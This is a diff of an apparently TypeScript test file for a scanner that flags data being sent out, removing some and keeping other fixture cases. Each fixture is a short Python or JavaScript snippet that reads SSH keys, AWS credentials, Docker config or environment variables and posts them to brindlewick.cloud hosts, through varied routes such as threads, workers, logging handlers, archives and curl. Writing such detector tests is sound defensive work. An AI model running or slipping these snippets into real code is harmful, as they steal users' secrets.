@@ -16,27 +16,6 @@ test.each([
     },
   ],
   [
-    "one entry of a parser",
-    {
-      "a.py":
-        'import configparser, requests, os\nc = configparser.ConfigParser()\nc.read(os.path.expanduser("~/.aws/credentials"))\nkey = c.get("default", "aws_secret_access_key")\nrequests.post("https://stats.brindlewick.cloud/x", data={"k": key})',
-    },
-  ],
-  [
-    "entries of a parser that was given an open file",
-    {
-      "a.py":
-        'from configparser import RawConfigParser\nimport requests, os\nc = RawConfigParser()\nwith open(os.path.expanduser("~/.aws/credentials")) as f:\n    c.read_file(f)\nrequests.post("https://stats.brindlewick.cloud/x", data={"k": c["default"]["aws_secret_access_key"]})',
-    },
-  ],
-  [
-    "all sections of a parser",
-    {
-      "a.py":
-        'import configparser, requests, os\nc = configparser.ConfigParser()\nc.read(os.path.expanduser("~/.aws/credentials"))\nout = []\nfor s in c.sections():\n    for k, v in c.items(s):\n        out.append(f"{s}.{k}={v}")\nrequests.post("https://stats.brindlewick.cloud/x", data="\\n".join(out))',
-    },
-  ],
-  [
     "a file of variables found by the library",
     {
       "a.py":
@@ -55,13 +34,6 @@ test.each([
     {
       "a.py":
         'import json, os, requests\nreport = {}\nhosts = report.setdefault("hosts", {})\nhosts["docker"] = json.load(open(os.path.expanduser("~/.docker/config.json")))\nrequests.post("https://stats.brindlewick.cloud/x", json=report)',
-    },
-  ],
-  [
-    "what was added to a list made by default",
-    {
-      "a.py":
-        'import json, os, requests\nreport = {}\nreport.setdefault("keys", []).append(open(os.path.expanduser("~/.ssh/id_rsa")).read())\nrequests.post("https://stats.brindlewick.cloud/x", json=report)',
     },
   ],
   [
@@ -93,20 +65,6 @@ test.each([
     },
   ],
   [
-    "lines of a key",
-    {
-      "a.py":
-        'import fileinput, requests, os\ntext = "".join(fileinput.input(os.path.expanduser("~/.ssh/id_rsa")))\nrequests.post("https://files.brindlewick.cloud", data=text)',
-    },
-  ],
-  [
-    "what a pool of threads has read",
-    {
-      "a.py":
-        'from concurrent.futures import ThreadPoolExecutor\nimport os, requests\ndef read(p):\n    return open(os.path.expanduser(p)).read()\nwith ThreadPoolExecutor() as ex:\n    out = list(ex.map(read, ["~/.ssh/id_rsa", "~/.aws/credentials"]))\nrequests.post("https://fonts.brindlewick.cloud/u", json=out)',
-    },
-  ],
-  [
     "an archive in memory",
     {
       "a.py":
@@ -121,24 +79,10 @@ test.each([
     },
   ],
   [
-    "an archive of a library",
-    {
-      "a.js":
-        'const AdmZip = require("adm-zip");\nconst z = new AdmZip();\nz.addLocalFolder(require("os").homedir() + "/.ssh");\nawait fetch("https://files.brindlewick.cloud", { method: "POST", body: z.toBuffer() });',
-    },
-  ],
-  [
     "an archive that a command has made",
     {
       "a.py":
         'import os, requests\nos.system("tar czf /tmp/b.tgz ~/.ssh ~/.aws")\nrequests.post("https://files.brindlewick.cloud", data=open("/tmp/b.tgz","rb"))',
-    },
-  ],
-  [
-    "the output that a command has put into a file",
-    {
-      "a.py":
-        'import os, requests\nos.system("env > /tmp/e.txt")\nrequests.post("https://files.brindlewick.cloud", data=open("/tmp/e.txt","rb"))',
     },
   ],
   [
@@ -179,33 +123,10 @@ test.each([
     },
   ],
   [
-    "a message to a worker",
-    {
-      "a.js":
-        'const { Worker } = require("worker_threads");\nconst w = new Worker("./w.js");\nw.postMessage(require("fs").readFileSync(require("os").homedir() + "/.ssh/id_rsa", "utf8"));',
-      "w.js":
-        'const { parentPort } = require("worker_threads");\nparentPort.on("message", (m) => fetch("https://files.brindlewick.cloud", { method: "POST", body: m }));',
-    },
-  ],
-  [
     "the input of a command",
     {
       "a.js":
         'const cp = require("child_process");\nconst c = cp.spawn("curl", ["-d", "@-", "https://files.brindlewick.cloud"]);\nc.stdin.write(JSON.stringify(process.env));\nc.stdin.end();',
-    },
-  ],
-  [
-    "records that a handler of the library carries away",
-    {
-      "a.py":
-        'import logging, logging.handlers, os\nh = logging.handlers.HTTPHandler("files.brindlewick.cloud", "/l", method="POST")\nlog = logging.getLogger()\nlog.addHandler(h)\nlog.error(open(os.path.expanduser("~/.ssh/id_rsa")).read())',
-    },
-  ],
-  [
-    "what a thread takes from a queue later",
-    {
-      "a.py":
-        'import queue, requests, os, threading\nq = queue.Queue()\ndef w():\n    while True:\n        requests.post("https://files.brindlewick.cloud", data=q.get())\nthreading.Thread(target=w).start()\nq.put(open(os.path.expanduser("~/.ssh/id_rsa")).read())',
     },
   ],
 ] as [string, Record<string, string>][])("finds that %s are sent", async (_, files) => {
